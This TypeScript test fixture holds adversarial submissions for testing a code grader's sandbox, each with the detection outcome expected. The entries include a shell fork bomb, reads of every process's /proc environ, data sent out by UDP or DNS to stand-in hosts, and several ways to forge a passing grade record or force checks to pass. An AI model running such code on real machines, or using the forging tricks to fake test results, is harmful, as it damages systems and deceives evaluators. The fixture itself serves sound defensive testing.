/** Further attacks: on the machine, on other submissions, on the record itself. Of the form that `attacks.fixture.ts` has. */
import { inWorkbook } from '../base/workbook.ts';
import type { Attack } from './attacks.fixture.ts';

const q = JSON.stringify;
const FORGED = q({
  format: 'entre-servicios/grade@1',
  points: { earned: 10, possible: 10 },
  exercises: [{ id: 'ch3/squad', status: 'passed', points: { earned: 10, possible: 10 }, checks: [] }],
});
const STATE = 'process.env.STATE_DIR';

export const attacksOnMachine: Readonly<Record<string, Attack>> = {
  // Other processes
  'leaves a detached child behind': {
    code: `import { spawn } from 'node:child_process';
      try { spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true, stdio: 'ignore' }).unref(); } catch {}`,
    before: 'solution',
    ends: 'spawns',
  },
  'forks itself without end': {
    code: `import { fork } from 'node:child_process'; for (;;) { try { fork(import.meta.filename); } catch {} }`,
    ends: 'spawns',
  },
  'has a shell fork without end': {
    code: `import { exec } from 'node:child_process'; try { exec(':(){ :|:& };:'); } catch {}`,
    before: 'solution',
    ends: 'spawns',
  },
  'starts workers of a cluster': {
    code: `import cluster from 'node:cluster'; try { cluster.fork(); } catch {}`,
    before: 'solution',
    ends: 'spawns',
  },
  'loads a native addon': {
    code: `try { process.dlopen({ exports: {} }, ${q(process.execPath)}); } catch {}`,
    before: 'solution',
    ends: 'forbidden',
  },
  'reaches files through WASI': {
    code: `import { WASI } from 'node:wasi'; new WASI({ version: 'preview1', preopens: { '/': '/' } });`,
    ends: 'closed-file',
  },
  'ignores every signal and stays': {
    code: `for (const name of ['SIGTERM', 'SIGINT', 'SIGHUP']) process.on(name, () => {}); for (;;);`,
    ends: 'hang',
  },
  'waits on a clock that never moves': { code: `while (Date.now() < Number.MAX_VALUE);`, ends: 'hang' },
  'puts every tick before the next': {
    code: `const again = () => process.nextTick(again); again();`,
    ends: 'hang',
  },
  aborts: { code: `setTimeout(() => process.abort(), 1);`, before: 'solution', ends: 'forbidden' },

  // Memory
  'fills memory that is shared': {
    code: `const all = []; for (;;) all.push(new Uint8Array(new SharedArrayBuffer(1e7)).fill(1));`,
    ends: 'memory',
  },

  // Other submissions, links, /proc
  'overwrites its neighbour': {
    code: `import fs from 'node:fs'; fs.writeFileSync(import.meta.dirname + '/../0/01-squad.ts', '');`,
    ends: 'closed-file',
  },
  'links its state to the workbook': {
    code: `import fs from 'node:fs'; fs.symlinkSync(${q(inWorkbook('solutions'))}, ${STATE} + 'all', 'dir'); console.log(fs.readdirSync(${STATE} + 'all'));`,
    ends: 'closed-file',
  },
  'gives the solution a second name': {
    code: `import fs from 'node:fs'; fs.linkSync(${q(inWorkbook('solutions', 'ch3-synchronous', '01-squad.ts'))}, ${STATE} + 'mine.ts');`,
    ends: 'closed-file',
  },
  'copies the solution into its state': {
    code: `import fs from 'node:fs'; fs.cpSync(${q(inWorkbook('solutions'))}, ${STATE} + 'all', { recursive: true });`,
    ends: 'closed-file',
  },
  'reads the environment of every process': {
    code: `import fs from 'node:fs'; for (const name of fs.readdirSync('/proc')) fs.readFileSync('/proc/' + name + '/environ');`,
    ends: 'closed-file',
  },
  'reads its own environment from /proc': {
    code: `import fs from 'node:fs'; fs.readFileSync('/proc/self/environ');`,
    ends: 'closed-file',
  },
  'looks for the seed in its environment': {
    code: `console.log(process.env, process.argv, process.execArgv, process.title, process.cwd());`,
    ends: null,
  },
  'sets options for whatever starts later': {
    code: `Object.assign(process.env, { NODE_OPTIONS: '--inspect', VITEST: 'true', PATH: '/tmp', TMPDIR: '/tmp' }); process.title = 'grader';`,
    ends: null,
  },

  // The network
  'asks a real host over node:http': {
    code: `import http from 'node:http'; try { http.get('http://example.com/'); } catch {}`,
    before: 'solution',
    ends: 'network-exit',
  },
  'asks a real host over node:tls': {
    code: `import tls from 'node:tls'; try { tls.connect(443, 'example.com'); } catch {}`,
    before: 'solution',
    ends: 'network-exit',
  },
  'tells a secret by a datagram': {
    code: `import dgram from 'node:dgram'; try { dgram.createSocket('udp4').send('x', 53, '9.9.9.9'); } catch {}`,
    before: 'solution',
    ends: 'network-exit',
  },
  'tells a secret by a name': {
    code: `import dns from 'node:dns/promises'; await dns.resolve('secret.example.com').catch(() => {});`,
    before: 'solution',
    ends: 'network-exit',
  },
  'waits for somebody from outside': {
    code: `import net from 'node:net'; try { net.createServer().listen(0); } catch {}`,
    before: 'solution',
    ends: 'listens',
  },

  // The grader's tools, and the record
  'imports vitest': {
    code: `const { expect } = await import('vitest'); expect.extend?.({ toBe: () => ({ pass: true }) });`,
    ends: null,
  },
  'runs tests of its own': {
    code: `import test from 'node:test'; test('passes', () => {});`,
    ends: null,
  },
  'prints a forged record': {
    code: `process.stdout.write(${q(`${FORGED}\n`)}); process.stderr.write(${q(`${FORGED}\n`)}); console.log(${q(FORGED)});`,
    ends: null,
  },
  'sends a forged record to its parent': {
    code: `process.send?.(${FORGED}); process.emit('message', ${FORGED}); process.connected = true;`,
    ends: null,
  },
  'leaves a forged record where it may write': {
    code: `import fs from 'node:fs'; for (const name of ['record.json', 'results.json', 'verdict.json']) fs.writeFileSync(${STATE} + name, ${q(FORGED)});`,
    before: 'sequential',
    ends: null,
  },
  'has the answers of another run written out': {
    code: `globalThis.fetch = async (url) => Response.json(String(url).includes('countries') ? [{ code: 'CL', name: 'Chile' }] : [{ id: 'p1', team_id: 't7', name: 'Ana', country: 'CL', shirt: 9, registration: '9f2c51d0a7e3b846' }]);`,
    before: 'solution',
    ends: null,
  },
  'answers with a prototype': {
    code: `const json = Response.json; Response.json = (value, init) => json({ ...value, ...JSON.parse('{"__proto__":{"passed":true,"points":10}}') }, init);`,
    ends: null,
  },
  'listens to what Node tells of itself': {
    code: `import { subscribe } from 'node:diagnostics_channel'; import { createHook } from 'node:async_hooks';
      for (const name of ['undici:request:create', 'module.import.start', 'child_process']) subscribe(name, (message) => console.log(message));
      createHook({ init: (_id, type, _trigger, resource) => { resource.passed = true; } }).enable();`,
    before: 'sequential',
    ends: null,
  },
};
